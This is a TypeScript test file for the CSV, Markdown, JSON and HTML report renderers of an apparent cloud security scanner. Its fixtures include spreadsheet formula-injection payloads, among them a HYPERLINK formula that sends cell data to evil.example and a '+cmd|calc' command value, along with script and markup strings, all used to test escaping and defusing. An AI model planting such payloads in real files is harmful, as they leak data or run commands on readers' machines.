import { expect } from 'chai';
import { csvField, defuseFormula, renderCsv } from '../../src/report/csv';
import { escapeHtml, renderHtml } from '../../src/report/html';
import { formatForOutput, renderReport } from '../../src/report/index';
import { renderJson } from '../../src/report/json';
import { markdownCell, renderMarkdown } from '../../src/report/markdown';
import { buildReport, reportItem } from '../../src/report/summary';
import { finding, queueMessage } from '../helpers/findings';
import { DEV, HOSTILE_ID, HOSTILE_MESSAGE, PROD, SAMPLE, storedSample } from './sample';

const AT = new Date('2026-12-01T09:30:00.000Z');
const reportOf = (items: Parameters<typeof buildReport>[0]) =>
  buildReport(items, { generatedAt: AT, source: 'standard input' });

describe('report: formats', () => {
  describe('the model', () => {
    it('counts by severity, remediation, account and check, most severe first', () => {
      const report = reportOf(SAMPLE.map((f) => ({ finding: f })));
      expect(report.counts).to.deep.equal({
        total: 12,
        bySeverity: { critical: 4, high: 4, medium: 4, low: 0 },
        byRemediation: { dry_run: 6, applied: 3, failed: 1, excepted: 1, not_available: 1 },
        byAccount: { [DEV]: 6, [PROD]: 6 },
        byCheck: {
          's3_bucket.public': 2,
          'sqs.public': 2,
          'ec2.imdsv1_allowed': 1,
          'iam_role.public_trust': 1,
          'iam_user.stale_access_key': 1,
          'kms_key.public_policy': 1,
          'lambda_function.public': 1,
          'region.vpc_flow_logs': 1,
          's3_bucket.no_tls_enforcement': 1,
          'security_group.public_ingress': 1,
        },
      });
      expect(report.items.map((i) => i.finding.severity)).to.deep.equal([
        ...Array(4).fill('critical'),
        ...Array(4).fill('high'),
        ...Array(4).fill('medium'),
      ]);
    });

    it('takes stored findings with their status, and counts the statuses', () => {
      const report = reportOf(storedSample().map((s) => reportItem(s) as never));
      expect(report.counts.byStatus).to.deep.equal({ open: 8, resolved: 3, excepted: 1 });
      const fixed = report.items.find((i) => i.finding.id === SAMPLE[0]!.id)!;
      expect(fixed.stored).to.deep.include({ status: 'resolved', firstSeen: '2026-11-10T08:00:00.000Z' });
    });

    it('says what is wrong with a value that is not a finding', () => {
      expect(reportItem(42)).to.deep.equal({ problem: 'not a finding: a finding is a JSON object, not 42' });
      expect(reportItem({ ...finding(), severity: 'urgent' })).to.deep.equal({
        problem: 'not a finding: severity is "urgent", not one of critical, high, medium, low',
      });
      expect(reportItem({ ...finding(), resource: {} })).to.deep.equal({
        problem: 'not a finding: resource.account is missing, not a string',
      });
      expect(reportItem({ ...storedSample()[0]!, status: 'closed' })).to.deep.equal({
        problem: 'not a stored finding: status is "closed", not one of open, resolved, excepted',
      });
    });

    it('picks the format from the output file name, html otherwise', () => {
      expect(
        ['a.csv', 'a.MD', 'a.markdown', 'a.json', 'a.html', 'a.txt', undefined].map(formatForOutput),
      ).to.deep.equal(['csv', 'markdown', 'markdown', 'json', 'html', 'html', 'html']);
    });
  });

  describe('csv', () => {
    it('quotes as RFC 4180 says and defuses values a spreadsheet would run as formulas', () => {
      const one = finding({
        resource: queueMessage('=HYPERLINK("http://evil.example/?"&A1,"click")'),
        message: 'Statement "Open", allows anyone\nto call sqs:*',
      });
      const two = finding({
        check: 'sqs.public',
        severity: 'critical',
        resource: { ...queueMessage('@SUM(1+1)'), account: '999999999999' },
        message: '-2+3 looks like arithmetic',
        remediation: { action: '+cmd|calc', status: 'failed', reason: 'AccessDenied' },
        observedAt: '2026-11-23T00:00:00.000Z',
      });
      expect(renderCsv(reportOf([{ finding: one }, { finding: two }]))).to.equal(
        [
          'severity,check,title,account,region,resource_type,resource_id,remediation_status,remediation_action,remediation_reason,message,observed_at,status,first_seen,last_seen,id',
          `critical,sqs.public,SQS queue policy allows anyone,999999999999,eu-west-1,sqs,'@SUM(1+1),failed,'+cmd|calc,AccessDenied,'-2+3 looks like arithmetic,2026-11-23T00:00:00.000Z,,,,${two.id}`,
          `high,sqs.public,SQS queue policy allows anyone,111111111111,eu-west-1,sqs,"'=HYPERLINK(""http://evil.example/?""&A1,""click"")",dry_run,remove public policy statements,,"Statement ""Open"", allows anyone\nto call sqs:*",2026-11-22T12:00:00.000Z,,,,${one.id}`,
          '',
        ].join('\r\n'),
      );
    });

    it('fills status, first and last sighting for stored findings', () => {
      const [stored] = storedSample();
      const csv = renderCsv(reportOf([reportItem(stored) as never]));
      expect(csv.split('\r\n')[1]).to.match(
        /,resolved,2026-11-10T08:00:00\.000Z,2026-11-22T12:00:00\.000Z,[0-9a-f]{64}$/,
      );
    });

    it('defuses = + - @ tab and carriage return, and leaves other text alone', () => {
      expect(['=1', '+1', '-1', '@a', '\tx', '\rx', 'a=1', ''].map(defuseFormula)).to.deep.equal([
        "'=1",
        "'+1",
        "'-1",
        "'@a",
        "'\tx",
        "'\rx",
        'a=1',
        '',
      ]);
      expect(csvField(' padded')).to.equal('" padded"');
      expect(csvField('plain')).to.equal('plain');
    });
  });

  describe('markdown', () => {
    it('escapes pipes and markup in cells and keeps each row on one line', () => {
      expect(markdownCell('a|b <script>x</script> *y* `z` [l](u) \\ _i_ ~s~ &amp;\nnext')).to.equal(
        'a\\|b \\<script\\>x\\</script\\> \\*y\\* \\`z\\` \\[l\\](u) \\\\ \\_i\\_ \\~s\\~ \\&amp; next',
      );
    });

    it('renders a summary table and a findings table', () => {
      const hostile = finding({
        resource: queueMessage('q|1'),
        message: 'Principal "*" | <b>bold</b>',
      });
      const md = renderMarkdown(reportOf([{ finding: hostile }]));
      expect(md).to.contain('Generated 2026-12-01T09:30:00.000Z from 1 finding (standard input).');
      expect(md).to.contain('| severity high | 1 |');
      expect(md).to.contain('| remediation dry_run | 1 |');
      expect(md).to.contain(
        '| high | sqs.public (SQS queue policy allows anyone) | sqs q\\|1 | 111111111111 | eu-west-1 | dry_run | Principal "\\*" \\| \\<b\\>bold\\</b\\> |',
      );
      for (const row of md.split('\n').filter((l) => l.startsWith('| high'))) {
        expect(row.replace(/\\\|/g, '').split('|')).to.have.length(9);
      }
      expect(renderMarkdown(reportOf([]))).to.contain('No findings.');
    });
  });

  describe('json', () => {
    it('is one document of generatedAt, source, counts and the findings', () => {
      const items = [
        ...storedSample()
          .slice(0, 2)
          .map((s) => reportItem(s) as never),
        { finding: SAMPLE[3]! },
      ];
      const doc = JSON.parse(renderJson(reportOf(items)));
      expect(doc.generatedAt).to.equal('2026-12-01T09:30:00.000Z');
      expect(doc.source).to.equal('standard input');
      expect(doc.counts).to.deep.equal({
        total: 3,
        bySeverity: { critical: 2, high: 1, medium: 0, low: 0 },
        byRemediation: { dry_run: 1, applied: 2, failed: 0, excepted: 0, not_available: 0 },
        byAccount: { [PROD]: 2, [DEV]: 1 },
        byCheck: { 'iam_role.public_trust': 1, 's3_bucket.public': 1, 'sqs.public': 1 },
        byStatus: { open: 1, resolved: 1, excepted: 0 },
      });
      expect(doc.findings.map((f: { id: string }) => f.id)).to.deep.equal([
        SAMPLE[0]!.id,
        SAMPLE[1]!.id,
        SAMPLE[3]!.id,
      ]);
      expect(doc.findings[0].stored).to.deep.equal({
        status: 'resolved',
        firstSeen: '2026-11-10T08:00:00.000Z',
        lastSeen: '2026-11-22T12:00:00.000Z',
        resolvedAt: '2026-11-22T12:00:00.000Z',
      });
      expect(doc.findings[2]).to.deep.equal(JSON.parse(JSON.stringify(SAMPLE[3])));
    });
  });

  describe('html', () => {
    const html = renderHtml(reportOf(SAMPLE.map((f) => ({ finding: f }))));

    it('escapes every value: a script in a resource id, message or before is text', () => {
      expect(escapeHtml(`<a href="x">'&'</a>`)).to.equal(
        '&#60;a href=&#34;x&#34;&#62;&#39;&#38;&#39;&#60;/a&#62;',
      );
      expect(html).not.to.contain(HOSTILE_ID);
      expect(html).not.to.contain('<img');
      expect(html).not.to.contain('</pre><script>');
      expect(html).to.contain(escapeHtml(HOSTILE_ID));
      expect(html).to.contain(escapeHtml(HOSTILE_MESSAGE));
      // The page's own script is the only one.
      expect(html.match(/<script/gi)).to.have.length(1);
    });

    it('loads nothing: no URL, and a policy that allows only its own style and script', () => {
      expect(html).not.to.match(/<[a-z]+\s[^>]*\b(src|href)=/i);
      expect(html).not.to.match(/https?:\/\/(?!sqs\.eu-west-1\.amazonaws\.com)/);
      expect(html).not.to.match(/@import|url\(/);
      const csp = /<meta http-equiv="Content-Security-Policy" content="([^"]+)">/.exec(html)![1]!;
      expect(csp.replace(/&#39;/g, "'")).to.match(
        /^default-src 'none'; style-src 'sha256-[A-Za-z0-9+/=]+'; script-src 'sha256-[A-Za-z0-9+/=]+'; img-src 'none'/,
      );
    });

    it('shows the summary, a row per finding with its check title, and the states a fix replaced', () => {
      expect(html).to.contain('from <b id="total">12 findings</b> (standard input)');
      expect(html).to.contain(
        '<div class="card critical" data-count="critical"><b>4</b><span>critical</span></div>',
      );
      expect(html.match(/<tbody data-i=/g)).to.have.length(12);
      expect(html).to.contain('<span class="sub">SQS queue policy allows anyone</span>');
      expect(html).to.contain('<pre class="before">{\n  &#34;HttpTokens&#34;: &#34;optional&#34;\n}</pre>');
      expect(html).to.contain('<pre class="after">{\n  &#34;HttpTokens&#34;: &#34;required&#34;\n}</pre>');
      expect(html).not.to.contain('data-filter="status"');
    });

    it('adds the status column and filter for stored findings', () => {
      const stored = renderHtml(reportOf(storedSample().map((s) => reportItem(s) as never)));
      expect(stored).to.contain('data-filter="status"');
      expect(stored).to.contain('<th><button type="button" data-col="7">Status</button></th>');
      expect(stored).to.contain('<dt>First seen</dt><dd>2026-11-10 08:00 UTC</dd>');
    });

    it('renders an empty report', () => {
      const empty = renderReport(reportOf([]), 'html');
      expect(empty).to.contain('from <b id="total">0 findings</b>');
      expect(empty).to.contain('No findings.');
    });
  });
});
